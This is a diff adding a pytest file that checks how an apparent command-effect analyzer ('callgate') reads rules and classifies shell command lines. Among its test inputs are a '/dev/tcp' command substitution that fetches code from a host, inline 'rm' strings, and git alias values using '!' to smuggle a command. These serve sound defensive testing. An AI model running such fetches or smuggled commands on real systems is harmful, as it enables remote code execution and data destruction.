@@ -1,0 +1,161 @@
+"""The format of `kind: programs`: conditions on words, what always holds, values between words."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+
+from callgate.effects import program_problems
+from callgate.effects.program_reader import read_program
+from callgate.effects.program_spec import Texts
+from tests.effects.test_program_format import run
+
+POWER = [{"power": {"action": "halt"}, "when": "LEVEL is 0|off|x*|*y*"}]
+LEVEL: dict[str, Any] = {"operands": "LEVEL...", "effects": POWER}
+MODE: dict[str, Any] = {
+    "options": {"mode": ["-m MODE", "--mode=MODE"]},
+    "effects": [{"power": {"action": "halt"}, "when": "option mode is 0"}],
+}
+BOTH: dict[str, Any] = {
+    "options": {"a": "-a", "b": "-b"},
+    "operands": "WORD...",
+    "effects": [{"power": {"action": "halt"}, "when": ["option a and option b", "WORD is on"]}],
+}
+UNLESS: dict[str, Any] = {
+    "operands": "WORD...",
+    "effects": [{"power": {"action": "halt"}, "unless": "WORD is status|list"}],
+}
+ALWAYS: dict[str, Any] = {
+    "options": {"log": "-l FILE"},
+    "always": [{"write": {"path": "option log"}}],
+    "effects": [{"power": {"action": "none"}}],
+    "commands": {
+        "go": {"effects": [{"power": {"action": "command"}}]},
+        "deep": {"commands": {"er": {}}},
+    },
+}
+SKIPS: dict[str, Any] = {
+    "style": "single-dash",
+    "options": {"second": "--arg name VALUE", "first": "-print FILE format"},
+    "operands": "WORD...",
+    "effects": [
+        {"read": {"path": "option second"}},
+        {"write": {"path": "option first"}},
+        {"delete": {"path": "WORD"}},
+    ],
+}
+AFTER: dict[str, Any] = {
+    "options": {"set": "-c SETTING"},
+    "effects": [{"delete": {"path": "option set after alias.*=!"}}],
+}
+APART: dict[str, Any] = {
+    "operands": "WORD...",
+    "effects": [{"code": {"language": "shell", "text": "WORD after =", "apart": True}}],
+}
+PLAIN: dict[str, Any] = {
+    "operands": "WORD...",
+    "effects": [{"code": {"language": "shell", "text": "WORD", "plain": True}}],
+}
+HALT = ["power action=halt"]
+DOUBTFUL = ["power action=halt (doubtful)"]
+
+
+@pytest.mark.parametrize(
+    ("entry", "text", "found"),
+    [
+        (LEVEL, "x 0", HALT),
+        (LEVEL, "x 1 off", HALT),
+        (LEVEL, "x xyz", HALT),
+        (LEVEL, "x ayb", HALT),
+        (LEVEL, "x 00", []),
+        (LEVEL, "x OFF", []),
+        (LEVEL, "x", []),
+        (LEVEL, 'x "$A"', DOUBTFUL),
+        (LEVEL, 'x "$A" 0', HALT),
+        (MODE, "x -m0", HALT),
+        (MODE, "x --mo=0", HALT),
+        (MODE, "x -m 1", []),
+        (MODE, 'x -m "$A"', DOUBTFUL),
+        (BOTH, "x -ab", HALT),
+        (BOTH, "x -a", []),
+        (BOTH, "x -a on", HALT),
+        (UNLESS, "x", HALT),
+        (UNLESS, "x list", []),
+        (UNLESS, "x stop", HALT),
+        (UNLESS, 'x "$A"', DOUBTFUL),
+        (ALWAYS, "x -l a", ["power action=none", "write path=/w/a"]),
+        (ALWAYS, "x -l a go", ["power action=go", "write path=/w/a"]),
+        (ALWAYS, "x go -l a", ["power action=go", "write path=/w/a"]),
+        (ALWAYS, "x deep er -l a", ["write path=/w/a"]),
+        (SKIPS, "x --arg a b c", ["read path=/w/b", "delete path=/w/c"]),
+        (SKIPS, "x -print a %p c", ["write path=/w/a", "delete path=/w/c"]),
+        (SKIPS, "x --arg a", []),
+        (SKIPS, "x -print a", ["write path=/w/a"]),
+        (AFTER, "x -c alias.s=!a", ["delete path=/w/a"]),
+        (AFTER, "x -c ALIAS.S=!a=!b", ["delete path=/w/a=!b"]),
+        (AFTER, "x -c alias.s=a", []),
+        (AFTER, "x -c other=!a", []),
+        (AFTER, 'x -c "alias.$A"', ["delete path=?"]),
+        (AFTER, 'x -c "alias.a=!$A"', ["delete path=?"]),
+        (
+            APART,
+            "x a='rm b' c='rm d'",
+            [
+                *("interpret language=shell source=inline", "delete path=/w/b"),
+                *("interpret language=shell source=inline", "delete path=/w/d"),
+            ],
+        ),
+    ],
+)
+def test_what_an_entry_means(entry: dict[str, Any], text: str, found: list[str]) -> None:
+    assert not list(program_problems({"x": entry}))
+    rm = {"operands": "FILE...", "effects": [{"delete": {"path": "FILE"}}]}
+    assert run(entry, text, rm=rm) == found
+
+
+def test_plain_code_is_what_it_does() -> None:
+    assert run(PLAIN, "x 'x ls'") == []
+    assert "interpret language=shell source=download" in run(PLAIN, 'x "$(</dev/tcp/h/80)"')
+
+
+@pytest.mark.parametrize(
+    ("condition", "said"),
+    [
+        ("LEVEL is a*b*c", "has a `*` too many"),
+        ("LEVEL is **", None),
+        ("LEVL is a", "no operand `LEVL`"),
+        ("option levl is a", "no option `levl`"),
+        ("option level and option levl", "no option `levl`"),
+        ("a is b", "is no condition"),
+        ("a", "is no condition"),
+    ],
+)
+def test_mistakes_in_conditions(condition: str, said: str | None) -> None:
+    entry = {
+        "options": {"level": "-l"},
+        "operands": "LEVEL",
+        "effects": [{"power": {"action": "halt"}, "when": condition}],
+    }
+    found = [message for _, message, _ in program_problems({"x": entry})]
+    assert (found == []) if said is None else (len(found) == 1 and said in found[0])
+
+
+def test_one_star_stands_for_text_between() -> None:
+    entry = {"options": {"o": "-o X"}, "effects": [{"read": {"path": "option o after a*b*c"}}]}
+    ((path, message, _),) = program_problems({"x": entry})
+    assert path == ("x", "effects", "0", "read", "path")
+    assert "more than one `*`" in message
+
+
+def test_always_belongs_to_every_command() -> None:
+    program = read_program("x", ALWAYS)
+    assert [len(command.effects) for command in program.commands.values()] == [2, 1]
+    assert program.commands["deep"].commands["er"].kinds
+
+
+@pytest.mark.parametrize(
+    ("text", "fits"), [("a", True), ("xa", False), ("bc", True), ("b1c", True), ("b", False)]
+)
+def test_texts(text: str, fits: bool) -> None:
+    assert Texts(frozenset({"a"}), (("b", "c"),)).fit(text) is fits
